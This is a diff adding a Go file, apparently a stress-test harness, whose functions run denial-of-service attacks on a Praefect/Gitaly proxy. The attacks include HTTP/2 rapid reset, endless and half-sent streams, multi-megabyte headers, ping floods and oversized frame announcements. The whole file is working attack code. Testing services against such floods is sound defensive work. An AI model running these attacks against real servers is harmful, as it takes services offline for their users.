@@ -1,0 +1,246 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/binary"
+	"io"
+	"net"
+	"runtime"
+	"strings"
+	"sync"
+	"time"
+
+	"gitlab.com/gitlab-org/gitaly/v16/proto/go/gitalypb"
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+	"golang.org/x/sys/unix"
+
+	"praefect/proxy/storage"
+)
+
+// wire is a client that speaks HTTP/2 frame by frame.
+type wire struct {
+	net.Conn
+	framer  *http2.Framer
+	headers bytes.Buffer
+	encoder *hpack.Encoder
+	stream  uint32
+}
+
+// yieldToInstances gives the thread of an attacker the lowest priority: elsewhere an attacker has
+// a host of its own, and takes no processor from what it attacks. The thread ends with the
+// goroutine.
+func yieldToInstances() {
+	runtime.LockOSThread()
+	_ = unix.Setpriority(unix.PRIO_PROCESS, 0, 19) // lower is always allowed
+}
+
+// dial connects until ctx ends. What the server says is not listened to.
+func dial(ctx context.Context, addr string) (net.Conn, error) {
+	conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
+	if err != nil {
+		return nil, err
+	}
+	context.AfterFunc(ctx, func() { _ = conn.Close() })
+	return conn, nil
+}
+
+func dialHTTP2(ctx context.Context, addr string) (*wire, error) {
+	conn, err := dial(ctx, addr)
+	if err != nil {
+		return nil, err
+	}
+	w := &wire{Conn: conn, framer: http2.NewFramer(conn, nil), stream: 1}
+	w.encoder = hpack.NewEncoder(&w.headers)
+	go func() { _, _ = io.Copy(io.Discard, conn) }() // until it is closed
+	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
+		return nil, err
+	}
+	return w, w.framer.WriteSettings()
+}
+
+// open begins a call; an empty token is none.
+func (w *wire) open(method, token string, more ...hpack.HeaderField) (uint32, error) {
+	w.headers.Reset()
+	fields := []hpack.HeaderField{
+		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: method},
+		{Name: ":authority", Value: "praefect"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
+	}
+	if token != "" {
+		fields = append(fields, hpack.HeaderField{Name: "authorization", Value: token})
+	}
+	for _, f := range append(fields, more...) {
+		if err := w.encoder.WriteField(f); err != nil {
+			return 0, err
+		}
+	}
+	id, block := w.stream, w.headers.Bytes()
+	w.stream += 2
+	const most = 16 << 10 // in one frame
+	err := w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block[:min(most, len(block))], EndHeaders: len(block) <= most})
+	for block = block[min(most, len(block)):]; err == nil && len(block) > 0; {
+		n := min(most, len(block))
+		err = w.framer.WriteContinuation(id, len(block) == n, block[:n])
+		block = block[n:]
+	}
+	return id, err
+}
+
+// again lets n attackers do the same until ctx ends, each on a new connection as soon as it
+// was cut off.
+func again(ctx context.Context, n int, addr string, attack func(*wire) error) error {
+	var running sync.WaitGroup
+	for range n {
+		running.Go(func() {
+			yieldToInstances()
+			for ctx.Err() == nil {
+				w, err := dialHTTP2(ctx, addr)
+				for err == nil {
+					err = attack(w)
+				}
+				if w != nil {
+					_ = w.Close()
+				}
+				wait(ctx, time.Millisecond) // the instance refuses connections
+			}
+		})
+	}
+	running.Wait()
+	return ctx.Err()
+}
+
+const existsMethod = gitalypb.RepositoryService_RepositoryExists_FullMethodName
+
+// rapidReset opens calls and takes them back at once.
+func rapidReset(withToken bool) func(context.Context, *world) error {
+	return func(ctx context.Context, w *world) error {
+		return again(ctx, 4, w.victim.Addr, func(a *wire) error {
+			token := ""
+			if withToken {
+				token = storage.Token(w.c.Token, time.Now())
+			}
+			id, err := a.open(existsMethod, token)
+			if err != nil {
+				return err
+			}
+			return a.framer.WriteRSTStream(id, http2.ErrCodeCancel)
+		})
+	}
+}
+
+// rejectedWithDeadline makes calls without the token that may take 11,000 years.
+func rejectedWithDeadline(ctx context.Context, w *world) error {
+	return again(ctx, 4, w.victim.Addr, func(a *wire) error {
+		_, err := a.open(existsMethod, "", hpack.HeaderField{Name: "grpc-timeout", Value: "99999999H"})
+		return err
+	})
+}
+
+// healthWatch opens streams that never end, without the token.
+func healthWatch(ctx context.Context, w *world) error {
+	return again(ctx, 10, w.victim.Addr, func(a *wire) error {
+		id, err := a.open("/grpc.health.v1.Health/Watch", "")
+		if err != nil {
+			return err
+		}
+		return a.framer.WriteData(id, true, make([]byte, 5)) // an empty message
+	})
+}
+
+// unfinishedMessages announces messages of 4 MiB, and sends all of each but the last byte.
+func unfinishedMessages(ctx context.Context, w *world) error {
+	const size = 4<<20 - 5
+	return again(ctx, 10, w.victim.Addr, func(a *wire) error {
+		id, err := a.open(gitalypb.RepositoryService_CreateRepository_FullMethodName, "")
+		if err != nil {
+			return err
+		}
+		message := binary.BigEndian.AppendUint32([]byte{0}, size)
+		for sent := 0; sent < size; {
+			chunk := append(message, make([]byte, min(16<<10-len(message), size-sent))...)
+			if err := a.framer.WriteData(id, false, chunk); err != nil {
+				return err
+			}
+			sent, message = sent+len(chunk), nil
+		}
+		return nil
+	})
+}
+
+// longHeaders sends correlation ids of 8 MB, and as long ones as are taken.
+func longHeaders(ctx context.Context, w *world) error {
+	long, longest := strings.Repeat("x", 100<<10), strings.Repeat("x", 8<<20)
+	turn := 0
+	return again(ctx, 1, w.victim.Addr, func(a *wire) error {
+		id := long
+		if turn++; turn%10 == 0 {
+			id = longest
+		}
+		_, err := a.open(existsMethod, storage.Token(w.c.Token, time.Now()), hpack.HeaderField{Name: "x-gitlab-correlation-id", Value: id})
+		return err
+	})
+}
+
+// The frames of a multiplexed session: version, type, flags, stream, length.
+func muxFrame(typ byte, flags uint16, stream, length uint32) []byte {
+	f := []byte{0, typ}
+	f = binary.BigEndian.AppendUint16(f, flags)
+	f = binary.BigEndian.AppendUint32(f, stream)
+	return binary.BigEndian.AppendUint32(f, length)
+}
+
+const (
+	muxData, muxWindow, muxPing = 0, 1, 2
+	muxSYN                      = 1
+)
+
+// beginSession is what a client says first that wants a multiplexed session.
+func beginSession() []byte {
+	return append([]byte("backchannel"), muxFrame(muxWindow, muxSYN, 1, 0)...)
+}
+
+// pingFlood sends 12 MB of pings on each connection, to the attacked instances.
+func pingFlood(ctx context.Context, w *world) error {
+	pings := bytes.Repeat(muxFrame(muxPing, muxSYN, 0, 1), 1000)
+	var running sync.WaitGroup
+	for _, i := range w.c.Instances {
+		for range 4 {
+			running.Go(func() {
+				yieldToInstances()
+				for ctx.Err() == nil {
+					if conn, err := dial(ctx, i.Addr); err == nil {
+						_, err = conn.Write(beginSession())
+						for n := 0; err == nil && n < 12<<20; n += len(pings) {
+							_, err = conn.Write(pings)
+						}
+						_ = conn.Close()
+					}
+					wait(ctx, time.Millisecond)
+				}
+			})
+		}
+	}
+	running.Wait()
+	return ctx.Err()
+}
+
+// announcedFrames announces 16 MiB on each of 100 connections, again and again.
+func announcedFrames(ctx context.Context, w *world) error {
+	var running sync.WaitGroup
+	for range 100 {
+		running.Go(func() {
+			for ctx.Err() == nil {
+				if conn, err := dial(ctx, w.victim.Addr); err == nil {
+					if _, err := conn.Write(append(beginSession(), muxFrame(muxData, 0, 1, 16<<20)...)); err == nil {
+						_, _ = io.Copy(io.Discard, conn) // until it is cut off
+					}
+					_ = conn.Close()
+				}
+				wait(ctx, 10*time.Millisecond)
+			}
+		})
+	}
+	running.Wait()
+	return ctx.Err()
+}
